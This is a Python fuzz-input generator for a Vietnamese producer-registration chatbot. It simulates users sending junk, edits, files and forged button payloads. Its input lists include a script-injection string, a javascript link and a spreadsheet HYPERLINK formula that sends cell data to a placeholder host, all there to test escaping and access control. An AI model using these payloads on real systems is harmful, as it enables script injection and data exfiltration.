"""What a fuzzed user may send: every kind of Incoming, chosen by a seeded ``random.Random``.

Owns the corpus (real questions from ``tests/data/faq_eval.yaml``, junk, very long strings,
NFD text, emoji, HTML-like text, values a form may ask for), the button strategies
(buttons the bot showed, stale ones, forged ones), edits of earlier typed messages (each
typed message has a message id) and albums (several photos at once, often followed at once
by «Xong»). Every user carries a unique marker in their name and in the values they type,
so a leak to another user is visible. It checks nothing; see ``invariants``.
"""

from __future__ import annotations

import dataclasses
import itertools
import random
import string
import struct
import unicodedata
import zlib
from collections import deque
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path

import yaml

from bot.files import store_bytes
from bot.messages import Incoming, Kind
from knowledge.forms import FieldType, Form, FormField

CHANNEL = "fuzz"
EVAL_SET = Path(__file__).resolve().parent.parent / "data" / "faq_eval.yaml"


@dataclass
class Persona:
    """One simulated user: ids, a unique marker, and the buttons they have seen."""

    external_id: str
    marker: str
    name: str
    shown: list[str] = field(default_factory=list)  # payloads on the last replies
    seen: deque[str] = field(default_factory=lambda: deque(maxlen=200))  # stale ones
    labels: list[str] = field(default_factory=list)  # labels of the last buttons
    last_text: str = ""  # what the last replies said, as plain text
    diligent: bool = False  # mostly answers the form, sometimes does something else
    officer_commune: str | None = None  # a commune officer of this commune
    typed: deque[str] = field(default_factory=lambda: deque(maxlen=20))  # their message ids
    answered: deque[str] = field(default_factory=lambda: deque(maxlen=10))  # ids saved as answers


def make_markers(rng: random.Random, count: int) -> list[str]:
    """Distinct 7-letter markers no reply text could contain by chance (``qzx`` + 4)."""
    found: set[str] = set()
    while len(found) < count:
        found.add("qzx" + "".join(rng.choice("bcdfhjkmnpvw") for _ in range(4)))
    return sorted(found)


def load_questions(path: Path = EVAL_SET) -> list[str]:
    """The real producer questions of the FAQ evaluation set."""
    items = yaml.safe_load(path.read_text(encoding="utf-8")) or []
    return [str(item["q"]) for item in items if isinstance(item, dict) and item.get("q")]


def png_bytes(seed: int) -> bytes:
    """A valid 1×1 PNG whose pixel depends on ``seed`` (so contents and hashes differ)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixel = zlib.compress(b"\x00" + bytes([seed % 256, (seed // 256) % 256, 7]))
    chunks = chunk(b"IHDR", header) + chunk(b"IDAT", pixel) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + chunks


def pdf_bytes(seed: int) -> bytes:
    """A tiny PDF; ``seed`` is written into it."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Count 0/Kids[]>>endobj\n"
        + f"% fuzz {seed}\n".encode()
        + b"trailer<</Root 1 0 R>>\n%%EOF\n"
    )


HTML_LIKE = (
    "<b>",
    "</b>",
    "<i>in nghiêng",
    "&amp;",
    "&",
    "&lt;script&gt;",
    "<script>alert(1)</script>",
    "<a href='javascript:x'>bấm</a>",
    "&#0;",
    "&#x110000;",
    "<<>>",
    "<b><i>sai thứ tự</b></i>",
    "Tôm & Cua <HTX>",
    "<tg-spoiler>",
    "<pre><code>",
)
EMOJI = ("😀", "👍🏽", "🎉", "🇻🇳", "👨‍👩‍👧", "❤️", "🍯", "🐟", "☕", "🌾")
JUNK_ALPHABETS = (
    string.printable,
    "\x00\x01\x07\x0b\x1b\x7f\u200b\u200e\u202e\ufeff\u2060\ufffe\uffff",  # XML forbids most
    "ăâđêôơưáàảãạấầẩẫậếềểễệốồổỗộớờởỡợúùủũụứừửữựíìỉĩịýỳỷỹỵ",
    "ĂÂĐÊÔƠƯÁÀẢÃẠ",
    "\u0301\u0300\u0309\u0303\u0323",  # lone combining marks
    "中文日本語한국어ไทยעבריתالعربية",
    "𝕏𝔸𝕄Ⓐ①½²",
    "ab\udcff\udcfe\ud800 ",  # undecodable bytes as the console reads them (surrogateescape)
)
FORM_VALUES = (
    "0912345678",
    "+84 912 345 678",
    "0912.345.678",
    "091234",
    "0101234567",
    "0101234567-001",
    "12",
    "0",
    "-5",
    "1.500.000",
    "2,5",
    "99999999999999999999",
    "12/03/2024",
    "31/02/2024",
    "2024",
    "có",
    "không",
    "co",
    "ko",
    "bỏ qua",
    "quay lại",
    "Vạn Thắng",
    "yen cuong",
    "Hộ kinh doanh",
    "Hợp tác xã",
    "Thực phẩm",
)
MARKED_VALUES = (
    "Mật ong {m}",
    "HTX {m} Yên Cường",
    "Nguyễn Văn {m}",
    "{m}@example.com",
    "Xóm 3, thôn {m}, xã Vạn Thắng",
    "Sản phẩm {m} đạt tiêu chuẩn",
    "Giò chả {m} &amp; <b>nem</b>",
    '=HYPERLINK("http://x.example/?d="&B2,"{m}")',  # a formula, for the officers' sheets
)
COMMANDS = (
    "/start",
    "/start xa_13864",
    "/start xa_99999",
    "/start zz_garbage",
    "/start@ocop_test_bot",
    "/huy",
    "/huy",
    "/menu",
    "/help",
    "/huongdan",
    "/tatthongbao",
    "/batthongbao",
    "/xyz",
    "/HUY",
    "/start " + "x" * 70,
)
UNSUPPORTED = ("sticker", "voice", "audio", "video", "video_note", "animation", "dice", "other")
# Verbs that carry a row id in the payloads of the features ("r:o:12", "o:ro12", "o:qa3").
ID_VERBS = (
    "",
    "e",
    "d",
    "x",
    "v",
    "o:",
    "go:",
    "dl:",
    "del:",
    "ro",
    "ra",
    "rm",
    "rr",
    "qo",
    "qa",
    "ax",
)
# Registration verbs that move a diligent producer forward (continue, answer, submit).
FORWARD = frozenset({"go", "a", "t", "x", "k", "sub", "ok", "fix", "sum"})
ACTION_WORDS = ("new", "mine", "menu", "submit", "del", "ok", "approve", "send", "edit", "back")
ODD_PAYLOADS = (":", "::", "r:", ":r", "c:p0", "c:p-1", "c:p999999999", "m:", " ")
PREFIXES = ("r", "o", "f", "m", "c", "a", "x", "zz", "", "R", "r:r", "o:o")


class InputMaker:
    """Makes one random Incoming at a time for a persona; ``label`` says what it was."""

    def __init__(
        self,
        rng: random.Random,
        files_dir: Path,
        questions: Sequence[str],
        menu_labels: Sequence[str],
        commands: Sequence[str],
        personas: Sequence[Persona],
        form: Form | None = None,
    ) -> None:
        self.rng = rng
        self.form = form
        self.files_dir = files_dir
        self.questions = list(questions)
        self.menu_labels = list(menu_labels)
        self.commands = sorted({*COMMANDS, *(f"/{c}" for c in commands)})
        self.personas = personas
        self._actions: list[tuple[float, Callable[[Persona], Incoming]]] = [
            (30, self.press_shown),
            (14 if form is not None else 0, self.form_answer),
            (4, self.press_stale),
            (3, self.press_others),
            (4, self.press_forged),
            (12, self.form_value),
            (8, self.marked_value),
            (8, self.question),
            (3, self.nfd_text),
            (3, self.junk),
            (1.5, self.very_long),
            (2, self.emoji),
            (3, self.html_like),
            (7, self.command),
            (4, self.menu_label),
            (4, self.attachment),
            (1.5, self.attachment_error),
            (3, self.unsupported),
            (4, self.edit),
        ]
        self._weights = [w for w, _ in self._actions]
        self.label = ""
        self._message_ids = itertools.count(1)

    def make(self, persona: Persona) -> Incoming:
        if persona.officer_commune is not None and self.rng.random() < 0.6:
            return self.officer_action(persona)
        if persona.diligent and self.form is not None and self.rng.random() < 0.75:
            self.label = "form_answer (diligent)"
            return self.form_answer(persona)
        (action,) = self.rng.choices([a for _, a in self._actions], self._weights)
        self.label = action.__name__
        return action(persona)

    # -- text -----------------------------------------------------------------------

    def _text(self, persona: Persona, text: str) -> Incoming:
        """A typed message, numbered like a messenger numbers them (an edit names it)."""
        number = str(next(self._message_ids))
        persona.typed.append(number)
        incoming = Incoming.from_text(CHANNEL, persona.external_id, text, persona.name)
        return dataclasses.replace(incoming, message_id=number)

    def edit(self, persona: Persona) -> Incoming:
        """The user edits one of their earlier messages (or one the bot never saw)."""
        rng = self.rng
        roll = rng.random()
        if persona.answered and roll < 0.6:
            number = rng.choice(list(persona.answered))
        elif persona.typed and roll < 0.85:
            number = rng.choice(list(persona.typed))
        else:
            number = str(rng.randint(0, 10**6))
        style = rng.choice((0, 1, 2, 2, 2, 3))
        if style == 0:
            text = rng.choice(FORM_VALUES)
        elif style == 1:
            text = rng.choice(MARKED_VALUES).format(m=persona.marker)
        elif style == 2:
            text = self.form_answer(persona).text or persona.marker
            self.label = "edit"
        else:
            text = rng.choice(("", " ", *HTML_LIKE, "x" * 5000))
        return Incoming(
            CHANNEL, persona.external_id, persona.name, Kind.EDITED, text=text, message_id=number
        )

    def album(self, persona: Persona) -> list[Incoming]:
        """2–10 photos sent at once (distinct ones), then often «Xong» pressed right away."""
        count = self.rng.randint(2, 10)
        first = self.rng.randint(0, 10_000)
        photos = []
        for seed in range(first, first + count):
            stored = store_bytes(png_bytes(seed), f"album_{seed}.png", "image/png", self.files_dir)
            photos.append(
                Incoming(CHANNEL, persona.external_id, persona.name, Kind.PHOTO, attachment=stored)
            )
        done = [p for p in persona.shown if p.startswith("r:x:")]
        if done and self.rng.random() < 0.7:
            photos.append(self._press(persona, done[0]))
        return photos

    def form_value(self, persona: Persona) -> Incoming:
        return self._text(persona, self.rng.choice(FORM_VALUES))

    def marked_value(self, persona: Persona) -> Incoming:
        return self._text(persona, self.rng.choice(MARKED_VALUES).format(m=persona.marker))

    def question(self, persona: Persona) -> Incoming:
        text = self.rng.choice(self.questions)
        if self.rng.random() < 0.3:
            text = f"{text} {persona.marker}"
        return self._text(persona, text)

    def nfd_text(self, persona: Persona) -> Incoming:
        source = self.rng.choice([*self.questions, *FORM_VALUES, "Xã Vạn Thắng", "Đăng ký"])
        return self._text(persona, unicodedata.normalize("NFD", source))

    def junk(self, persona: Persona) -> Incoming:
        alphabet = self.rng.choice(JUNK_ALPHABETS)
        size = self.rng.randint(1, 80)
        return self._text(persona, "".join(self.rng.choice(alphabet) for _ in range(size)))

    def very_long(self, persona: Persona) -> Incoming:
        size = self.rng.choice((3_990, 3_999, 4_000, 4_001, 5_000, 20_000))
        unit = self.rng.choice(("a", "&", "<b>", "ừ ", persona.marker + " ", "😀"))
        return self._text(persona, (unit * (size // len(unit) + 1))[:size])

    def emoji(self, persona: Persona) -> Incoming:
        parts = self.rng.choices(EMOJI, k=self.rng.randint(1, 6))
        if self.rng.random() < 0.5:
            parts.append(self.rng.choice(self.questions))
        return self._text(persona, " ".join(parts))

    def html_like(self, persona: Persona) -> Incoming:
        parts = self.rng.choices(HTML_LIKE, k=self.rng.randint(1, 3))
        if self.rng.random() < 0.5:
            parts.append(persona.marker)
        return self._text(persona, " ".join(parts))

    def command(self, persona: Persona) -> Incoming:
        return self._text(persona, self.rng.choice(self.commands))

    def menu_label(self, persona: Persona) -> Incoming:
        pool = [*self.menu_labels, *persona.labels]
        return self._text(persona, self.rng.choice(pool))

    # -- answers to the registration form ------------------------------------------

    def asked_field(self, persona: Persona) -> FormField | None:
        """The form field the last replies ask (found by its prompt), if any."""
        if self.form is None or "Bước " not in persona.last_text:
            return None
        found = [f for f in self.form.fields if f.prompt in persona.last_text]
        return found[-1] if found else None

    def form_answer(self, persona: Persona) -> Incoming:
        """A plausible answer to the question asked now (usually a valid one)."""
        f = self.asked_field(persona)
        if f is None or f.type.has_choices or f.type is FieldType.COMMUNE:
            registration = [p for p in persona.shown if p.startswith("r:")]
            if persona.diligent and registration:
                self.label = "press a registration button"
                weights = [5 if p.split(":")[1] in FORWARD else 1 for p in registration]
                (chosen,) = self.rng.choices(registration, weights)
                return self._press(persona, chosen)
            self.label = "press_shown (choice or no question)"
            return self.press_shown(persona)
        if f.type.takes_files:
            self.label = "attachment (files field)"
            return self.attachment(persona)
        rng, m = self.rng, persona.marker
        values: dict[FieldType, Sequence[str]] = {
            FieldType.TEXT: (f"HTX {m} Vạn Thắng", f"Trần Văn {m}", f"Gạo & mắm <tép> {m}"),
            FieldType.LONG_TEXT: (f"Sản phẩm {m} làm từ lúa tám, đóng túi 2 kg.",),
            FieldType.PHONE: ("0912345678", "+84 912.345.678", "0388 123 456", "0912"),
            FieldType.EMAIL: (f"{m}@example.com", f"{m.upper()}@Gmail.com", "sai@"),
            FieldType.TAX_ID: ("0601234567", "0601234567-001", "001234567890", "12345"),
            FieldType.NUMBER: ("khoảng 20 tấn", "35.000 đ/kg", "5 túi", "-3", "1,5 tạ"),
            FieldType.DATE: ("12/03/2020", "5-3-24", "31/02/2024", "ngày 1 tháng 6 năm 2019"),
        }
        return self._text(persona, rng.choice(values.get(f.type, (m,))))

    # -- officers -------------------------------------------------------------------

    def officer_action(self, persona: Persona) -> Incoming:
        """An officer at work: the officer buttons shown, or /canbo to get them."""
        tools = [p for p in persona.shown if p.startswith("o:")]
        if not tools or self.rng.random() < 0.1:
            self.label = "officer: /canbo"
            return self._text(persona, "/canbo")
        self.label = "officer: press a tool"
        return self._press(persona, self.rng.choice(tools))

    # -- buttons --------------------------------------------------------------------

    def _press(self, persona: Persona, payload: str) -> Incoming:
        return Incoming(CHANNEL, persona.external_id, persona.name, Kind.BUTTON, payload=payload)

    def press_shown(self, persona: Persona) -> Incoming:
        if not persona.shown:
            self.label = "command (no button shown yet)"
            return self.command(persona)
        return self._press(persona, self.rng.choice(persona.shown))

    def press_stale(self, persona: Persona) -> Incoming:
        if not persona.seen:
            self.label = "press_forged (nothing stale yet)"
            return self.press_forged(persona)
        return self._press(persona, self.rng.choice(list(persona.seen)))

    def press_others(self, persona: Persona) -> Incoming:
        """A payload another user was shown (their application ids, their drafts…)."""
        pool = [p for other in self.personas if other is not persona for p in other.seen]
        if not pool:
            self.label = "press_forged (no other payloads yet)"
            return self.press_forged(persona)
        return self._press(persona, self.rng.choice(pool))

    def press_forged(self, persona: Persona) -> Incoming:
        rng = self.rng
        style = rng.randrange(6)
        if style == 0:  # a known prefix with another number (someone else's row id)
            letter = rng.choice(ID_VERBS)
            payload = f"{rng.choice(PREFIXES)}:{letter}{rng.randint(0, 60)}"
        elif style == 1:  # an action word with junk
            word = rng.choice(ACTION_WORDS)
            payload = f"{rng.choice(PREFIXES)}:{word}:{rng.randint(-3, 99)}"
        elif style == 2:  # 64 bytes of ASCII
            payload = "".join(rng.choice(string.ascii_letters + ":_-0123456789") for _ in range(64))
        elif style == 3:  # a shown payload with its tail changed
            base = rng.choice(persona.shown or ["r:x"])
            payload = base[: rng.randint(0, len(base))] + str(rng.randint(0, 999))
        elif style == 4:  # punctuation and separators
            payload = rng.choice(ODD_PAYLOADS)
        else:  # non-ASCII bytes a modified client could send
            payload = rng.choice(("r:đ", "o:😀", "c:\x00", "m:\u202e"))
        return self._press(persona, payload or "x")

    # -- files and other kinds ------------------------------------------------------

    def attachment(self, persona: Persona) -> Incoming:
        photo = self.rng.random() < 0.5
        seed = self.rng.randint(0, 40)  # small range: users sometimes send identical files
        if photo:
            stored = store_bytes(png_bytes(seed), f"anh_{seed}.png", "image/png", self.files_dir)
        else:
            name = f"giay_{persona.marker}_{seed}.pdf"
            stored = store_bytes(pdf_bytes(seed), name, "application/pdf", self.files_dir)
        caption = self.rng.choice(("", "", persona.marker, "<b>ảnh</b> & giấy"))
        kind = Kind.PHOTO if photo else Kind.DOCUMENT
        return Incoming(
            CHANNEL, persona.external_id, persona.name, kind, attachment=stored, text=caption
        )

    def attachment_error(self, persona: Persona) -> Incoming:
        kind = self.rng.choice((Kind.PHOTO, Kind.DOCUMENT))
        reason = self.rng.choice(("too_big", "bad_type"))
        return Incoming(CHANNEL, persona.external_id, persona.name, kind, attachment_error=reason)

    def unsupported(self, persona: Persona) -> Incoming:
        rng = self.rng
        style = rng.randrange(3)
        if style == 0:
            phone = rng.choice(("0912345678", "+84912345678", "", "abc"))
            return Incoming(CHANNEL, persona.external_id, persona.name, Kind.CONTACT, phone=phone)
        if style == 1:
            where = (rng.uniform(-90, 90), rng.uniform(-180, 180))
            return Incoming(
                CHANNEL, persona.external_id, persona.name, Kind.LOCATION, location=where
            )
        return Incoming(
            CHANNEL,
            persona.external_id,
            persona.name,
            Kind.UNSUPPORTED,
            unsupported=rng.choice(UNSUPPORTED),
        )
